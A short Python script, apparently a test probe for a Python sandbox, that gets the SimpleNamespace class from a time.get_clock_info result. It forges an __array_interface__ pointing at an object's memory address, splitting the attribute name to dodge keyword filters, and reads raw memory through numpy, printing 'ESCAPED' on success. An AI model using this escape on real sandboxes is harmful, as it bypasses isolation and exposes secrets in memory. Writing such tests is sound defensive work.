"""The real class of a namespace is taken from an object of it that the interpreter made."""
import time
import numpy as np

secret = b"0123456789abcdef"
memory = {"shape": (48,), "typestr": "|u1", "data": (id(secret), False), "version": 3}
name = "__array_inter" + "face__"
real = type(time.get_clock_info("time"))
print("ESCAPED:namespace_by_its_object" if secret in bytes(np.asarray(real(**{name: memory}))) else "held")
